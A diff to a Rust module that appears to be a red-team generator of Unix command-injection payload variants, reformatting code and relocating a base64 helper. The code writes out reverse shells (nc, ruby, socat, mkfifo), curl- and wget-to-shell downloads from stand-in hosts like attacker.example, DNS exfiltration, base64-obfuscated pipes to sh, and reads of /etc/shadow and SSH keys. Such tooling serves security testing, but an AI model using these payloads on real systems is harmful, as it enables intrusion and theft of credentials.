@@ -12,7 +12,8 @@ pub struct RedteamCmdiUnix;
 
 const HOSTS: &[&str] = &["10.0.0.5", "198.51.100.23", "203.0.113.9", "attacker.example", "x.oast.example"];
 const PORTS: &[&str] = &["4444", "1337", "9001", "53", "8080", "443"];
-const FILES: &[&str] = &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/root/.ssh/id_rsa", "/var/www/html/config.php", "/etc/issue"];
+const FILES: &[&str] =
+    &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/root/.ssh/id_rsa", "/var/www/html/config.php", "/etc/issue"];
 const PREFIXES: &[&str] = &["", "127.0.0.1", "8.8.8.8", "example.com", "test", "1", "report.pdf", "john", "localhost"];
 
 /// A command with its arguments, as words (the obfuscator works word by word).
@@ -35,7 +36,16 @@ fn command(rng: &mut Rng, names: &mut Vec<&'static str>) -> Vec<String> {
             vec!["ping".into(), "-c".into(), rng.range(5, 20).to_string(), "127.0.0.1".into()]
         }
         7 => vec!["curl".into(), format!("http://{host}/s.sh"), "|".into(), rng.pick(&["sh", "bash", "/bin/sh"]).to_string()],
-        8 => vec!["wget".into(), format!("http://{host}/x"), "-O".into(), "/tmp/x;".into(), "chmod".into(), "+x".into(), "/tmp/x;".into(), "/tmp/x".into()],
+        8 => vec![
+            "wget".into(),
+            format!("http://{host}/x"),
+            "-O".into(),
+            "/tmp/x;".into(),
+            "chmod".into(),
+            "+x".into(),
+            "/tmp/x;".into(),
+            "/tmp/x".into(),
+        ],
         9 => {
             names.push("reverse-shell");
             vec!["nc".into(), "-e".into(), "/bin/sh".into(), host.into(), port.into()]
@@ -62,14 +72,36 @@ fn command(rng: &mut Rng, names: &mut Vec<&'static str>) -> Vec<String> {
         }
         14 => {
             names.push("reverse-shell");
-            vec!["ruby".into(), "-rsocket".into(), "-e".into(), format!("'c=TCPSocket.new(\"{host}\",{port});while(cmd=c.gets);IO.popen(cmd,\"r\"){{|io|c.print io.read}}end'")]
+            vec![
+                "ruby".into(),
+                "-rsocket".into(),
+                "-e".into(),
+                format!("'c=TCPSocket.new(\"{host}\",{port});while(cmd=c.gets);IO.popen(cmd,\"r\"){{|io|c.print io.read}}end'"),
+            ]
         }
         15 => {
             names.push("reverse-shell");
-            vec!["rm".into(), "/tmp/f;mkfifo".into(), "/tmp/f;cat".into(), "/tmp/f|/bin/sh".into(), "-i".into(), "2>&1|nc".into(), host.into(), format!("{port} >/tmp/f")]
+            vec![
+                "rm".into(),
+                "/tmp/f;mkfifo".into(),
+                "/tmp/f;cat".into(),
+                "/tmp/f|/bin/sh".into(),
+                "-i".into(),
+                "2>&1|nc".into(),
+                host.into(),
+                format!("{port} >/tmp/f"),
+            ]
         }
         16 => vec!["/bin/sh".into(), "-c".into(), rng.pick(&["id", "'cat /etc/passwd'", "\"uname -a\"", "whoami"]).to_string()],
-        17 => vec!["echo".into(), rng.pick(&["d2hvYW1p", "aWQ=", "Y2F0IC9ldGMvcGFzc3dk"]).to_string(), "|".into(), "base64".into(), "-d".into(), "|".into(), rng.pick(&["sh", "bash"]).to_string()],
+        17 => vec![
+            "echo".into(),
+            rng.pick(&["d2hvYW1p", "aWQ=", "Y2F0IC9ldGMvcGFzc3dk"]).to_string(),
+            "|".into(),
+            "base64".into(),
+            "-d".into(),
+            "|".into(),
+            rng.pick(&["sh", "bash"]).to_string(),
+        ],
         18 => vec!["nslookup".into(), format!("`whoami`.{host}")],
         19 => vec!["awk".into(), "'BEGIN{system(\"id\")}'".into()],
         20 => vec!["socat".into(), format!("tcp:{host}:{port}"), "exec:/bin/sh".into()],
@@ -148,7 +180,7 @@ fn render(rng: &mut Rng, words: &[String], names: &mut Vec<&'static str>) -> Str
         }
         9 => {
             names.push("base64-pipe");
-            let encoded = base64(joined.as_bytes());
+            let encoded = crate::mutate::base64(joined.as_bytes());
             match rng.below(3) {
                 0 => format!("echo {encoded}|base64 -d|sh"),
                 1 => format!("bash<<<$(base64 -d<<<{encoded})"),
@@ -256,21 +288,4 @@ impl Family for RedteamCmdiUnix {
         names.push(layer);
         Variant { family: self.name(), mutation: join(&names), payload, carrier: Carrier::Value }
     }
-}
-
-/// Standard base64 with padding (what `base64 -d` reads).
-pub(super) fn base64(bytes: &[u8]) -> String {
-    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    let mut out = String::new();
-    for chunk in bytes.chunks(3) {
-        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, b)| acc | (*b as u32) << (16 - 8 * i));
-        for i in 0..4 {
-            if i <= chunk.len() {
-                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
-            } else {
-                out.push('=');
-            }
-        }
-    }
-    out
 }
